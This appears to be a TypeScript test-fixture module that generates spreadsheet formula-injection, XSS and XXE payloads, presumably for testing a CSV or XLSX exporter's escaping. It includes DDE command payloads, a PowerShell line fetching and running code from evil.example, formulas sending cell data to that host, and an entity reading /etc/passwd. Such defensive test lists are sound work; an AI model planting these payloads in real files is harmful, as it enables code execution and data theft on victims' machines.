/** What makes a spreadsheet read a cell as a formula, alone or behind characters that it may drop. */
const leads = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  '\r\n@',
  ' =',
  '\u00a0+',
  '\u3000=',
  '\ufeff=',
  '\u200b=',
  '\u0000=',
]

const calls = [
  '1+1',
  'SUM(1,2)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"click")',
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  'IMAGE("http://evil.example/a.png")',
  'DDE("cmd";"/C calc";"__")',
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "10+20+cmd|' /C notepad'!'A1'",
  "SUM(1)*cmd|' /C powershell IEX(wget evil.example)'!A0",
]

/** Formulas, among them every example of OWASP's page on CSV injection. */
export const formulas: readonly string[] = leads.flatMap((lead) => calls.map((call) => lead + call))

const elements = ['script', 'img', 'svg', 'iframe', 'body', 'a', 'math', 'style', 'object', 'input']
const attributes = [
  'onerror=alert(1)',
  'onload=alert(1)',
  'href="javascript:alert(1)"',
  'src=x onfocus=alert(1) autofocus',
  'style="x:expression(alert(1))"',
]
const closers = ['', '"', "'", '</t></is></c>', ']]>']

/** Scripts, and attempts to leave the element or the quotation marks they stand in. */
export const scripts: readonly string[] = [
  ...elements.flatMap((element) =>
    attributes.flatMap((attribute) => closers.map((closer) => `${closer}<${element} ${attribute}>`)),
  ),
  '</t></is></c><c r="A1"><f>1+1</f><v>2</v></c>',
  "<f>cmd|'/C calc'!A0</f>",
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '_x003D_1+1',
  '_x005F_x003D_1',
  '","=1+1","',
  '";=1+1;"',
  '"\n=1+1\n"',
]
